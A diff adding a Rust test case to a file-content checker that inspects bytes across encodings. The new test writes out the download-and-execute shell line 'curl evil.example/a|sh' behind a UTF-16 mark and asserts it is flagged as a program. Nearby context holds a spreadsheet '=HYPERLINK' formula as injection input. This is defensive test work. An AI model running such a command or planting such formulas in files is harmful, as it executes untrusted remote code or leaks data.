@@ -158,6 +158,10 @@ fn what_stands_in_other_letters_is_judged_by_its_bytes_as_well() {
         let Verdict::Rebuilt { bytes, .. } = judged(table, Some(name)) else { panic!("{name}") };
         assert!(bytes.starts_with(b"\xef\xbb\xbfa,b\r\n") && !bytes.contains(&b'='), "{bytes:x?}");
     }
+    // An order to a shell in what is Chinese by its mark.
+    let script = b"\xff\xfe\r\ncurl evil.example/a|sh\r\n";
+    assert!(script.len().is_multiple_of(2));
+    assert_eq!(reason(script, None), Some(Reason::Program));
     // Text in two encodings: what is a formula in one of them only.
     let both = [EUC_JP.encode("かな\r\n").0.as_ref(), b"=HYPERLINK(\"http://x\")\r\n"].concat();
     let Verdict::Rebuilt { bytes, .. } = judged(&both, Some("a.txt")) else { panic!() };
